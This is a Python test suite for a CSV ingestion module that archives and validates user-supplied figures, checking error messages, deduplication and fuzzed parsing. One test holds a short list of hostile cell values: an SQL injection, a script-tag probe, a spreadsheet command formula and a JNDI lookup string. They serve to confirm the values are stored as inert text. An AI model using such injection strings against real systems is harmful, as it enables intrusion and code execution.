"""Own figures: taken as a whole or not at all, named to line and column, and counted beside the others."""

from __future__ import annotations

import dataclasses
import string
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from material import AS_OF, NOW, SOURCES, UNSCORED, House, catalog

from evidence.errors import InputError, PayloadChanged
from evidence.types import Payload
from warehouse import ingest
from warehouse.build import build
from warehouse.ingest import COLUMNS, Ingested
from warehouse.read import Warehouse

HEADER = ",".join(COLUMNS)
GOOD = "alpha,shop.packages,123.5,packages,2026-02-28,A survey,https://example.org/s,CC-BY-4.0"


def take(
    house: House, text: str | bytes, *, name: str = "mine.csv", run: str = "ingest-1", now: datetime = NOW
) -> Ingested:
    file = house.home.parent / name
    file.write_bytes(text if isinstance(text, bytes) else text.encode())
    return ingest.ingest(file, archive=house.archive, catalog=catalog(), sources=SOURCES, run=run, now=now)


def test_a_good_file_is_archived_and_counts_at_the_next_publication(house: House) -> None:
    rows = [
        HEADER,
        GOOD,
        "beta,shop.downloads,1e3,downloads,2026-02-27,A survey,p. 3,CC0-1.0",
        '"beta",shop.packages,7,packages,2026-03-01,"Shop, the, other","a ""quoted"" ref",private',
    ]
    said = take(house, "\ufeff" + "\r\n".join(rows))
    assert (said.figures, said.is_new) == (3, True)
    release = house.publish(now=NOW + timedelta(hours=2))
    assert release.report is not None
    assert release.report.parsed == 1
    with Warehouse.open(house.home) as warehouse:
        frame = warehouse.sql("from observation where source = 'ingest' order by framework, metric")
        assert frame["value"].tolist() == [123.5, 1000.0, 7.0]
        assert frame["name"].tolist() == ["alpha", "beta", "beta"]
        assert frame["licence"].tolist() == ["CC-BY-4.0", "CC0-1.0", "private"]
        assert frame["ref"].iloc[2] == 'Shop, the, other: a "quoted" ref'
        assert (frame["end_at"] - frame["start_at"]).dt.days.tolist() == [0, 1, 0]
        assert warehouse.body(said.sha256).startswith("\ufeffsubject".encode())
        assert set(warehouse.sql("from attempts where source = 'ingest'")["framework"]) == {"alpha", "beta"}


def test_the_newer_figure_counts(house: House) -> None:
    """The collected one is of the evening of 1 March."""
    take(house, f"{HEADER}\n{GOOD}")
    tomorrow = NOW + timedelta(days=1)
    take(house, f"{HEADER}\n{GOOD}".replace("2026-02-28", "2026-03-02"), run="ingest-2", now=tomorrow)
    house.publish(as_of=AS_OF + timedelta(days=1), now=tomorrow)
    with Warehouse.open(house.home) as warehouse:
        raw = {
            day: {
                item.indicator: item.raw["alpha"]
                for item in warehouse.scores("pair", as_of=day)[0].contributions
            }
            for day in (AS_OF, AS_OF + timedelta(days=1))
        }
    assert [found["packages"] for found in raw.values()] == [50 + 40 + 80, 123.5]


def test_the_same_file_twice_changes_nothing(house: House) -> None:
    first = take(house, f"{HEADER}\n{GOOD}\n")
    index = sorted((house.home / "archive" / "index").iterdir())
    again = take(house, f"{HEADER}\n{GOOD}\n", name="renamed.csv", run="ingest-2")
    assert again == dataclasses.replace(first, is_new=False)
    assert sorted((house.home / "archive" / "index").iterdir()) == index


def changed(**cells: str) -> str:
    row = dict(zip(COLUMNS, GOOD.split(","), strict=True)) | cells
    return (
        f"{HEADER}\n{GOOD.replace('packages,123', 'stars,123').replace('packages,2026', 'stars,2026')}\n"
        + ",".join(row[column] for column in COLUMNS)
    )


MALFORMED = {
    "unknown metric": (changed(metric="shop.moons"), "line 3, metric: unknown 'shop.moons'"),
    "wrong unit": (changed(unit="crates"), "line 3, unit: shop.packages is in 'packages', not 'crates'"),
    "bad date": (changed(observed_on="28.02.2026"), "line 3, observed_on: '28.02.2026' is no day"),
    "no such day": (changed(observed_on="2026-02-30"), "line 3, observed_on: '2026-02-30' is no day"),
    "week date": (changed(observed_on="2026-W08-1"), "line 3, observed_on"),
    "long ago": (changed(observed_on="0026-02-28"), "line 3, observed_on"),
    "future": (changed(observed_on="2026-03-02"), "line 3, observed_on: 2026-03-02 is in the future"),
    "nan": (changed(value="nan"), "line 3, value: 'nan' is no finite number"),
    "inf": (changed(value="-inf"), "line 3, value"),
    "overflow": (changed(value="1e999"), "line 3, value"),
    "underscore": (changed(value="1_000"), "line 3, value"),
    "hexadecimal": (changed(value="0x10"), "line 3, value"),
    "other digits": (changed(value="\u0661\u0662"), "line 3, value"),
    "decimal comma": (changed(value='"1,5"'), "line 3, value: '1,5' is no finite number"),
    "formula": (changed(value="=1+1"), "line 3, value"),
    "unknown subject": (
        changed(subject="delta"),
        "line 3, subject: unknown 'delta'. Known: alpha, beta, gamma",
    ),
    "empty cell": (changed(licence=""), "line 3, licence: empty"),
    "blank cell": (changed(source="  "), "line 3, source: empty"),
    "spaces": (changed(metric=" shop.packages"), "line 3, metric: has spaces"),
    "invisible": (changed(source="a\u202eb"), "line 3, source: has spaces around it, invisible"),
    "null byte": (changed(source="a\x00b"), "line 3"),
    "too long": (changed(source="x" * 2001), "line 3, source"),
    "too few cells": (f"{HEADER}\n{GOOD.rpartition(',')[0]}", "line 2: 7 cells for 8 columns"),
    "too many cells": (f"{HEADER}\n{GOOD},more", "line 2: 9 cells for 8 columns"),
    "missing column": (f"{HEADER.replace(',licence', '')}\n{GOOD}", "line 1: column 'licence' is missing"),
    "unknown column": (f"{HEADER},note\n{GOOD},x", "line 1: column 'note' is unknown"),
    "column twice": (f"{HEADER},unit\n{GOOD},x", "line 1: column 'unit' is unknown or twice"),
    "no header": (GOOD, "line 1: column 'subject' is missing"),
    "empty": ("", "line 1: column 'subject' is missing"),
    "no rows": (HEADER, "no figures below the header"),
    "twice": (f"{HEADER}\n{GOOD}\n\n{GOOD}", "line 4: the same figure as line 2"),
    "not UTF-8": (f"{HEADER}\n{GOOD}\n".encode() + b"alpha,\xff\xfe", "line 3: not UTF-8"),
    "UTF-16": (f"{HEADER}\n{GOOD}".encode("utf-16"), "not UTF-8"),
    "open quote": (f'{HEADER}\n"{GOOD}', "not CSV"),
    "semicolons": (f"{HEADER}\n{GOOD}".replace(",", ";"), "line 1"),
}


@pytest.mark.parametrize("name", MALFORMED)
def test_a_malformed_file_is_refused_as_a_whole_with_its_place(bare: House, name: str) -> None:
    text, why = MALFORMED[name]
    bare.home.mkdir()
    with pytest.raises(InputError) as raised:
        take(bare, text)
    assert (
        f"mine.csv, {why}" in str(raised.value)
        or f"mine.csv: {why}" in str(raised.value)
        or why in str(raised.value)
    )
    assert list(bare.archive.entries()) == []
    assert not (bare.home / "archive").exists()


def test_a_line_number_counts_lines_within_quotes(bare: House) -> None:
    bare.home.mkdir()
    first = 'alpha,shop.packages,1,packages,2026-02-27,"two\nlines",x,y'
    text = "\n".join([HEADER, first, GOOD.replace("123.5", "nan")])
    with pytest.raises(InputError, match="line 4, value"):
        take(bare, text)


def test_a_file_that_is_not_there_or_too_large(bare: House, tmp_path: Path) -> None:
    bare.home.mkdir()
    arguments = {"archive": bare.archive, "catalog": catalog(), "sources": SOURCES, "run": "r", "now": NOW}
    with pytest.raises(InputError, match="cannot be read"):
        ingest.ingest(tmp_path / "gone.csv", **arguments)
    with pytest.raises(InputError, match="cannot be read"):
        ingest.ingest(tmp_path, **arguments)
    large = tmp_path / "large.csv"
    with large.open("wb") as file:
        file.truncate(ingest.LARGEST_BYTES + 1)
    with pytest.raises(InputError, match="larger than"):
        ingest.ingest(large, **arguments)


def test_hostile_text_is_kept_as_text(house: House) -> None:
    """Nothing in a cell is ever run: not as SQL, not as HTML, not as a formula of a spreadsheet."""
    evil = [
        "'); drop table observation; --",
        "<script>alert(1)</script>",
        "=cmd|' /C calc'!A0",
        "${jndi:ldap://x}",
        "Ω≈ç√",
    ]
    rows = [
        f'alpha,shop.packages,{number},packages,2026-02-{number + 10},"{text}","{text}","{text}"'
        for number, text in enumerate(evil)
    ]
    take(house, "\n".join([HEADER, *rows]))
    build(house.home / "b.duckdb", **house.material(), catalog=UNSCORED, as_of=AS_OF)
    with Warehouse.open(house.home / "b.duckdb") as warehouse:
        frame = warehouse.sql("from observation where source = 'ingest' order by value")
        assert frame["licence"].tolist() == evil
        assert frame["ref"].tolist() == [f"{text}: {text}" for text in evil]


def archived(body: bytes, headers: dict[str, str]) -> Payload:
    return Payload("ingest", "", "core", "mine.csv", "ingest:mine.csv", NOW, 200, headers, "0" * 64, body)


READ_AS = {"read-as": '{"flows": [], "names": {"alpha": {"shop.packages": "alpha"}}}'}


def test_parsing_needs_nothing_but_the_payload() -> None:
    (found,) = ingest.parse(archived(f"{HEADER}\n{GOOD}".encode(), READ_AS))
    assert (found.framework, found.value, found.name) == ("alpha", 123.5, "alpha")
    assert found.start == found.end == datetime(2026, 2, 28, tzinfo=UTC)


@given(st.binary(max_size=300) | st.text(string.printable, max_size=300).map(str.encode))
def test_parsing_any_bytes_gives_figures_or_says_no(body: bytes) -> None:
    for headers in (READ_AS, {}, {"read-as": "[]"}):
        with pytest.raises(PayloadChanged):
            list(ingest.parse(archived(body, headers)))


@settings(max_examples=200)
@given(
    st.tuples(
        st.sampled_from(["alpha", "beta", "delta", ""]),
        st.sampled_from(["shop.packages", "shop.moons"]),
        st.floats().map(repr) | st.text(max_size=12),
        st.sampled_from(["packages", "crates"]),
        st.dates().map(str) | st.text(max_size=10),
        st.text(max_size=20),
        st.text(max_size=20),
        st.text(max_size=20),
    )
)
def test_any_cells_are_taken_exactly_or_refused(
    tmp_path_factory: pytest.TempPathFactory, cells: tuple[str, ...]
) -> None:
    house = House(tmp_path_factory.mktemp("any") / "home")
    quoted = ",".join('"' + cell.replace('"', '""') + '"' for cell in cells)
    try:
        body = f"{HEADER}\n{quoted}\n".encode()
    except UnicodeEncodeError:
        return
    try:
        take(house, body)
    except InputError:
        assert list(house.archive.entries()) == []
        return
    (entry,) = house.archive.entries()
    (found,) = ingest.parse(house.archive.payload(entry))
    assert found.value == float(cells[2])
    assert (found.framework, found.metric, found.licence) == (cells[0], cells[1], cells[7])
